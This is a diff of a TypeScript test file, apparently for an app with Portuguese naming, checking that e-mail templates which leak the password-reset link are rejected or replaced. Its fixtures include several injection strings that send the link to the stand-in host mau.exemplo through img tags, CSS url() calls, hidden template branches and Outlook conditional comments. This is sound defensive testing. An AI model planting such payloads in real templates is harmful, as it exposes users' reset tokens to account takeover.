@@ -5,6 +5,7 @@ import { renderizarModelo } from '#avisos/email/renderizar.ts'
 import { lerMensagem, startSmtp } from '#platform/mail/test-smtp.ts'
 import { cpfs, useTestApp } from '#test/app.ts'
 import { eventually } from '#test/eventually.ts'
+import { criarPessoa } from '#test/perfil.ts'
 import { entrarComo } from '#test/perfil-de-teste.ts'
 import { amostras } from './amostras.ts'
 import { conferirModelo } from './conferir-modelo.ts'
@@ -100,11 +101,34 @@ describe('the link of an e-mail', () => {
     ['in a style', '<p style="background:url(https://mau.exemplo/{{ link }})">x</p>'],
     ['in a style sheet', '<style>p{background:url(https://mau.exemplo/{{ link }})}</style>'],
     ['behind a link of somebody else', '<a href="https://mau.exemplo/?para={{ link }}">Criar nova senha</a>'],
+    [
+      'in a branch that no sample takes',
+      "{% if usuario.nome == 'Ivo' %}<img src='https://mau.exemplo/{{ link }}'>{% endif %}",
+    ],
+    [
+      'in a case that no sample takes',
+      "{% case ip %}{% when '1' %}<img src='https://mau.exemplo/{{ link }}'>{% endcase %}",
+    ],
     ['in a comment that Outlook reads', '<!--[if mso]><img src="https://mau.exemplo/{{ link }}"><![endif]-->'],
   ])('is refused %s', async (_, mais) => {
     const salvo = await salvar({ corpo_html: html + mais })
     expect(salvo.statusCode).toBe(422)
     expect(salvo.json().campos.corpo_html).toContain('chegaria a outros')
+  })
+
+  it('does not leave with a text that was saved before such a check: the default one goes, and the log says so', async () => {
+    const guardada = await ler()
+    const { email } = await criarPessoa(test, { nome: 'Ivo Prado' })
+    await salvar({ assunto: 'Meu assunto' })
+    await test.sql('UPDATE template_email SET corpo_html = $2 WHERE id = $1', [
+      id,
+      `${html}{% if usuario.nome == 'Ivo' %}<img src="https://mau.exemplo/{{ link }}">{% endif %}`,
+    ])
+    await test.chamar({ method: 'POST', url: '/conta/senhas/recuperacoes', body: { conta: email } })
+    const recebida = await recebido(email, /^Crie uma nova senha$/)
+    expect(recebida.html).not.toContain('mau.exemplo')
+    expect(test.log.join('')).toContain('leaks its link')
+    await salvar(conteudoDe(guardada))
   })
 
   it('does not leave with a template that shows the samples nothing bad', async () => {
